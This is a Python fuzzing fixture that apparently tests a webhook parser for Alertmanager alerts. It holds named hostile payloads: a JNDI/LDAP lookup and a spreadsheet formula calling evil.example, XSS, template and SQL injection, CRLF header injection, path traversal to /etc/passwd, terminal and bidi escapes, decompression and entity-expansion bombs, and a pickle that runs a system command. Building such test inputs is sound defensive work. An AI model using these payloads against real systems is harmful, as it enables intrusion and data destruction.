"""Bodies that have broken somebody's parser: each with a name, none of them larger than a source may send."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator

DEEP = 50_000
HUGE = "9" * 4000
FORMULA = '=HYPERLINK("http://evil.example","click")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
WIKI = (
    "[~admin] {html}<b>{html} h1. big !http://evil.example/x.png! {code} @everyone <!channel> [x|javascript:alert(3)]"
)
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m"
BIDI = "\u202egnp.exe \u2066\u200b\ufeff\ufff9"
TEMPLATE = "{{ config }} {% for x in ().__class__ %} ${RUNG_SECRET_KEY} ${jndi:ldap://evil.example/a} {0.__class__}"
SQL = "'; DROP TABLE tickets; -- ^ORsys_idISNOTEMPTY^EQ project = X OR 1=1"
NUL = "a\x00b"
SURROGATE = "\ud800 and \udfff"
WORDS = {
    "formula": FORMULA,
    "markup": MARKUP,
    "wiki": WIKI,
    "terminal": TERMINAL,
    "bidi": BIDI,
    "template": TEMPLATE,
    "sql": SQL,
    "nul": NUL,
    "surrogate": SURROGATE,
    "long": "A" * 100_000,
    "lines": "\r\nSet-Cookie: a=b\r\n\r\n" * 20,
    "marks": "Z\u0351\u036b\u0343" * 3000,
    "path": "../../../../etc/passwd\x00.png",
}
"""Texts that mean something to somebody behind us."""


def texts(made: str) -> dict[str, bytes]:
    """A body of one alert of Alertmanager's form in which each of those words stands in every place; `made` tells
    them apart."""
    return {f"words: {name}": json.dumps(_alert(name, word, made)).encode() for name, word in WORDS.items()}


def _alert(name: str, word: str, made: str) -> dict[str, object]:
    labels = {"alertname": word, "service": word, "severity": "critical", "team": word, word[:50]: word, "made": made}
    one = {"status": "firing", "labels": labels, "annotations": {"summary": word, "description": word}}
    times = {"startsAt": "2026-03-02T12:00:00Z", "endsAt": "0001-01-01T00:00:00Z", "fingerprint": f"{made}-{name}"}
    links = {"generatorURL": f"javascript:alert('{word[:50]}')", "externalURL": word}
    return {"version": "4", "status": "firing", "groupKey": word, "alerts": [{**one, **times, **links}], **links}


def bodies() -> Iterator[tuple[str, bytes]]:
    """Bodies that are no good JSON, or more of it than anybody expects."""
    yield "nothing", b""
    yield "one byte", b"{"
    yield "white space", b" \n\t" * 1000
    yield "deep lists", b"[" * DEEP + b"]" * DEEP
    yield "deep objects", b'{"a":' * DEEP + b"1" + b"}" * DEEP
    yield "deep within an alert", b'{"alerts":' + b"[" * 2000 + b"]" * 2000 + b"}"
    yield "a huge number", f'{{"alerts": [{{"startsAt": {HUGE}, "status": 1e999}}]}}'.encode()
    yield "a number beyond Python's limit", b'{"a": ' + b"9" * 5000 + b"}"
    yield "no numbers", b'{"alerts": [{"value": NaN, "x": Infinity, "y": -Infinity}]}'
    yield "repeated keys", b'{"alerts": [], "alerts": [{}], "status": "firing", "status": "resolved"}'
    yield "invalid UTF-8", b'{"status": "\xff\xfe\xc0\x80"}'
    yield "overlong UTF-8", b'{"status": "\xf8\x88\x80\x80\x80"}'
    yield "UTF-16", '{"status": "firing"}'.encode("utf-16")
    yield "UTF-32 without a mark", '{"status": "firing"}'.encode("utf-32-be")
    yield "a byte order mark", b'\xef\xbb\xbf{"status": "firing"}'
    yield "NUL bytes", b'{"status": "fi\x00ring"}'
    yield "escaped NUL", rb'{"status": "\u0000", "alerts": [{"labels": {"\u0000": "\u0000"}}]}'
    yield (
        "lone surrogates",
        rb'{"status": "\ud800", "alerts": [{"labels": {"\udfff": "x"}, "fingerprint": "\udc00"}]}',
    )
    yield "many keys", json.dumps({f"k{n}": n for n in range(20_000)}).encode()
    yield "many alerts", json.dumps({"alerts": [{}] * 30_000}).encode()
    yield "keys that collide", json.dumps({"alerts": [{"labels": {str(n): "" for n in range(5000)}}]}).encode()
    yield "no object", b'"firing"'
    yield "null", b"null"
    yield "compressed", gzip.compress(b" " * 10_000_000)
    yield "YAML", b"a: &a [x]\nb: &b [*a, *a]\nc: [*b, *b]\n"
    yield "XML with entities", b'<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>'
    yield "a pickle", base64.b64decode("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu")
